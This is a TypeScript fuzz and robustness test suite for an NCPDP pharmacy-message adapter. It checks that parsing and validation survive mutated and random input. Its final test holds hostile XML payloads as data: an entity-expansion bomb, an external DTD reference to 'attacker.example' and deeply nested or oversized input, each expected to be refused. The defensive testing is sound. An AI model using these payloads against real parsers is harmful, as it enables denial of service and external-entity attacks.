/**
 * Robustness: the parser and validator never throw (and finish) on mutated corpus messages, random bytes, cut
 * transmissions and XML attacks.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { corpusDir, corpusFiles } from '../helpers/shared-corpus.ts';
import { createNcpdpAdapter } from '../../plugins/ncpdp-standard/ncpdp-adapter.ts';
import { createSyntheticDataService } from '../../plugins/synthetic-data/synthetic-random.ts';

const adapter = createNcpdpAdapter({ synthetic: createSyntheticDataService() });
const dir = corpusDir('ncpdp');
const generated = [
  ...adapter.generate({ messageType: 'NewRx', count: 1, seed: 1 }),
  ...adapter.generate({ messageType: 'NewRx', version: '10.6', count: 1, seed: 1 }),
  ...adapter.generate({ messageType: 'B1', count: 1, seed: 1 }),
];
const samples = [...generated, ...(dir ? corpusFiles('ncpdp').map((name) => readFileSync(join(dir, name), 'utf8')) : [])];

/** Validates in both modes and parses; any throw fails the property. */
function exercise(content: string): void {
  for (const mode of ['strict', 'compatibility'] as const) {
    const result = adapter.validate(content, { mode });
    expect(result.isValid).toBe(result.errors.length === 0);
  }
  adapter.parse(content);
  adapter.detect(content);
}

const mutation = fc.record({
  sample: fc.nat(),
  at: fc.nat(),
  length: fc.nat({ max: 40 }),
  insert: fc.oneof(fc.string({ maxLength: 20 }), fc.constantFrom('<', '>', '</', '&', '\x1c', '\x1d', '\x1e', '<!--', ']]>', '"', 'AM', '{')),
});

describe('NCPDP robustness', () => {
  it('never throws on mutated messages (replace, delete, insert)', () => {
    fc.assert(
      fc.property(mutation, ({ sample, at, length, insert }) => {
        const text = samples[sample % samples.length];
        const position = at % (text.length + 1);
        exercise(text.slice(0, position) + insert + text.slice(position + length));
        exercise(text.slice(0, position));
      }),
      { numRuns: 400 },
    );
  });

  it('never throws on arbitrary text', () => {
    fc.assert(
      fc.property(fc.string({ maxLength: 300 }), (text) => {
        exercise(text);
        exercise(`<Message>${text}`);
        exercise(`999999D0B1${text}`);
      }),
      { numRuns: 300 },
    );
  });

  it('refuses XML bombs, external entities and huge input with a clear PARSE_ERROR', () => {
    const attacks = [
      '<?xml version="1.0"?><!DOCTYPE Message [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Message>&b;</Message>',
      '<!DOCTYPE Message SYSTEM "http://attacker.example/evil.dtd"><Message/>',
      '<Message><!ENTITY x "y"></Message>',
      `<Message>${'<x>'.repeat(100_000)}`,
      `<Message>${'a'.repeat(2_100_000)}</Message>`,
    ];
    for (const attack of attacks) {
      const result = adapter.validate(attack, { mode: 'compatibility' });
      expect(result.errors.map((e) => e.code)).toEqual(['PARSE_ERROR']);
      expect(result.errors[0].message).toMatch(/refused|nested deeper|above the limit/);
    }
  });
});
